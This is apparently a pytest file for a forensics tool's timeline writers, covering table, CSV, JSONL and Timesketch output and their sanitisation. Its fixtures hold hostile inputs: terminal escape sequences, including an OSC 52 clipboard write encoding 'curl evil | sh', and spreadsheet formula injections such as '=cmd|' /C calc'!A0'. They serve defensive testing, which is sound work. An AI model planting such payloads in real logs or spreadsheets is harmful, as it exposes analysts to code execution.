"""The timeline formats (reports/timeline.py): each writer, on a small analysis dict, and the command
line that only dispatches to them."""
from __future__ import annotations

import csv
import io
import json

import pytest

from forensics.events import KINDS
from forensics.ops.cli import build_parser
from reports import timeline

RELOAD = {"at": "2026-09-02T04:05:13.211000Z", "local": "2026-09-02T13:05:13.211000+09:00", "source": "journal",
          "kind": "journal.reload", "summary": "daemon-reload requested by snapd.service",
          "attrs": {"wording": "Reloading requested from client PID 48211 ('systemctl') (unit snapd.service)...",
                    "requester_pid": 48211, "requester_comm": "systemctl", "requester_unit": "snapd.service",
                    "packages": ["not", "a", "scalar"]},
          "evidence": {"artifact": "journal/entries.jsonl", "cursor": "s=1;i=2"}, "original": None, "flags": []}
DPKG = {"at": "2026-09-02T04:05:10Z", "local": "2026-09-02T13:05:10+09:00", "source": "dpkg",
        "kind": "package.dpkg-action", "summary": 'configure "nvidia", 1.0', "attrs": {"action": "configure"},
        "evidence": {"artifact": "packages/dpkg/dpkg.log", "line": 7}, "original": "2026-09-02 13:05:10 configure",
        "flags": ["dst-fold"]}
A = {"node": "node3-gpu", "timeline": [DPKG, RELOAD]}


def run(fmt: str, a: dict = A) -> str:
    out = io.StringIO()
    timeline.write(a, fmt, out)
    return out.getvalue()


def test_the_command_line_offers_every_registered_format_and_table_first():
    t = build_parser().parse_args(["timeline", "b"])
    assert t.format == "table" == next(iter(timeline.FORMATS))
    for fmt in timeline.FORMATS:
        assert build_parser().parse_args(["timeline", "b", "--format", fmt]).format == fmt
    with pytest.raises(SystemExit):
        build_parser().parse_args(["timeline", "b", "--format", "xml"])
    with pytest.raises(KeyError):
        run("xml")


def test_table_is_one_aligned_line_per_event_in_node_time():
    """Node time to the second with its offset (issue 28: no microseconds in a table for people)."""
    assert run("table").splitlines() == [
        f"{'2026-09-02 13:05:10 +09:00':<26} {'dpkg':<12} {'package.dpkg-action':<24} configure \"nvidia\", 1.0",
        f"{'2026-09-02 13:05:13 +09:00':<26} {'journal':<12} {'journal.reload':<24} "
        "daemon-reload requested by snapd.service"]


def test_csv_has_a_header_and_the_evidence_pointer():
    text = run("csv")
    assert text.startswith("at,local,source,kind,summary,artifact,line,cursor\r\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["kind"] for r in rows] == ["package.dpkg-action", "journal.reload"]
    assert rows[0]["summary"] == 'configure "nvidia", 1.0' and rows[0]["line"] == "7" and rows[0]["cursor"] == ""
    assert rows[1]["cursor"] == "s=1;i=2" and rows[1]["line"] == "" and rows[1]["at"] == RELOAD["at"]


def test_jsonl_is_each_entry_as_analysis_json_holds_it():
    assert [json.loads(x) for x in run("jsonl").splitlines()] == [DPKG, RELOAD]


def test_timesketch_has_the_columns_timesketch_imports_and_the_meaning_of_each_time():
    dpkg, reload = [json.loads(x) for x in run("timesketch").splitlines()]
    assert reload["message"] == RELOAD["summary"] and reload["datetime"] == RELOAD["at"]
    assert reload["timestamp"] == 1788321913211000 and reload["timestamp_desc"] == "Reload Requested Time"
    assert reload["data_type"] == "gpu_forensics:journal.reload" and reload["node"] == "node3-gpu"
    assert reload["cursor"] == "s=1;i=2" and reload["line"] is None and reload["attr_requester_pid"] == 48211
    assert "attr_packages" not in reload  # Timesketch columns are scalars
    assert dpkg["timestamp_desc"] == "Log Time" and dpkg["line"] == 7 and dpkg["local_time"] == DPKG["local"]


def test_timesketch_takes_every_kinds_timestamp_desc_from_the_kinds_table():
    a = {"node": "n", "timeline": [dict(RELOAD, kind=kind) for kind in KINDS]}
    rows = [json.loads(x) for x in run("timesketch", a).splitlines()]
    assert [r["timestamp_desc"] for r in rows] == [k.timestamp_desc for k in KINDS.values()]
    assert not any(r["timestamp_desc"] in KINDS for r in rows)  # never a raw kind name


def test_an_empty_timeline_gives_only_the_csv_header():
    empty = {"node": None, "timeline": []}
    assert {fmt: run(fmt, empty) for fmt in timeline.FORMATS} == {
        "table": "", "csv": "at,local,source,kind,summary,artifact,line,cursor\r\n", "jsonl": "", "timesketch": "",
        "timesketch-csv": "message,timestamp,datetime,timestamp_desc\r\n"}


#: a journal message as a hostile node can log it: an ANSI colour and screen clear (CSI), an OSC 8
#: hyperlink and an OSC 52 clipboard write (ended by BEL / ST), a C1 CSI (0x9b), a CR that hides
#: what came before, a bidi override, and a newline that would start a forged line in the table
HOSTILE = ("\x1b[31mred\x1b[2J \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ "
           "\x9b1m c1\rover \u202eesrever\n2026-01-01 forged line\tend")
ROGUE = dict(RELOAD, summary=HOSTILE, source="journal\x1b[8m", evidence={"artifact": "journal/entries.jsonl",
                                                                         "cursor": "=cmd|' /C calc'!A0"})


def _raw_controls(text: str) -> set[str]:
    return {c for c in text if (ord(c) < 0x20 and c not in "\t\n\r") or 0x7f <= ord(c) <= 0x9f
            or c in "\u202e\u2028\u2029"}


@pytest.mark.parametrize("fmt", list(timeline.FORMATS))
def test_no_terminal_control_character_reaches_any_output(fmt):
    text = run(fmt, {"node": "n\x1b]0;title\x07", "timeline": [ROGUE, DPKG]})
    assert _raw_controls(text) == set()
    assert "\r" not in text.replace("\r\n", "")  # only CSV's own line ends
    if fmt == "table":
        lines = text.splitlines()
        assert len(lines) == 2  # the newline in the message did not start a forged line
        assert lines[0].endswith("\\x1b[31mred\\x1b[2J \\x1b]8;;https://evil.example/\\x07link\\x1b]8;;\\x07 "
                                 "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x1b\\ \\x9b1m c1\\x0dover \\u202eesrever"
                                 "\\x0a2026-01-01 forged line\tend")
    if fmt in ("jsonl", "timesketch"):  # JSON's own escapes: the value read back is the message as logged
        first = json.loads(text.splitlines()[0])
        assert first.get("summary", first.get("message")) == HOSTILE


@pytest.mark.parametrize("cell, shown", [("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
                                         ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
                                         ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"),
                                         ("\r=1", "\\x0d=1"), ("a=1", "a=1"), ("", "")])
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(cell, shown):
    rows = list(csv.DictReader(io.StringIO(run("csv", {"node": "n", "timeline": [dict(DPKG, summary=cell)]}))))
    assert rows[0]["summary"] == shown
    assert rows[0]["at"] == DPKG["at"] and rows[0]["line"] == "7"  # plain values are untouched


def test_every_csv_cell_goes_through_the_one_helper():
    rows = list(csv.DictReader(io.StringIO(run("csv", {"node": "n", "timeline": [ROGUE]}))))
    assert rows[0]["cursor"] == "'=cmd|' /C calc'!A0" and rows[0]["source"] == "journal\\x1b[8m"


def _gpu_event(at: str, gpu, kind: str = "metrics.dcgm-last-seen") -> dict:
    return {"at": at, "local": at, "source": "prometheus", "kind": kind, "summary": f"gpu {gpu}",
            "attrs": {"gpu": gpu, "pid": 7 if gpu is True else 7.5, "uuid": None}, "evidence": {}, "flags": []}


MIXED = {"node": "n1", "timeline": [_gpu_event("2026-09-02T04:05:13Z", True), _gpu_event("2026-09-02T04:05:14Z", "0"),
                                    _gpu_event("2026-09-02T04:05:15Z", "1")]}


def test_timesketch_gives_each_attribute_one_json_type_across_rows():
    """Issue 16: attr_gpu was a bool in some rows and "0"/"1" in others, a mapping clash in Timesketch's index."""
    rows = [json.loads(x) for x in run("timesketch", MIXED).splitlines()]
    assert [r["attr_gpu"] for r in rows] == [True, False, True]
    assert [r["attr_pid"] for r in rows] == [7.0, 7.5, 7.5] and all(type(r["attr_pid"]) is float for r in rows)
    assert [r["attr_uuid"] for r in rows] == [None, None, None]
    mixed_text = {"node": "n1", "timeline": [_gpu_event("2026-09-02T04:05:13Z", True),
                                             _gpu_event("2026-09-02T04:05:14Z", "GPU-5a8e")]}
    assert [json.loads(x)["attr_gpu"] for x in run("timesketch", mixed_text).splitlines()] == ["true", "GPU-5a8e"]


def test_timesketch_csv_is_timesketchs_csv_with_typed_cells():
    """Timesketch's documented CSV: a header row with message, timestamp, datetime, timestamp_desc first;
    the timestamp in microseconds, every kind's timestamp_desc from the kinds table."""
    rows = list(csv.DictReader(io.StringIO(run("timesketch-csv", A))))
    head = run("timesketch-csv", A).splitlines()[0].split(",")
    assert head[:4] == ["message", "timestamp", "datetime", "timestamp_desc"]
    assert [r["message"] for r in rows] == ['configure "nvidia", 1.0', "daemon-reload requested by snapd.service"]
    assert [int(r["timestamp"]) for r in rows] == [1788321910000000, 1788321913211000]
    assert [r["timestamp_desc"] for r in rows] == [KINDS["package.dpkg-action"].timestamp_desc,
                                                    KINDS["journal.reload"].timestamp_desc]
    assert rows[1]["attr_requester_pid"] == "48211" and rows[0]["attr_requester_pid"] == ""
    assert rows[0]["line"] == "7" and rows[1]["cursor"] == "s=1;i=2" and "attr_packages" not in head
    gpu = list(csv.DictReader(io.StringIO(run("timesketch-csv", MIXED))))
    assert [r["attr_gpu"] for r in gpu] == ["true", "false", "true"]
    assert build_parser().parse_args(["timeline", "b", "--format", "timesketch-csv"]).format == "timesketch-csv"
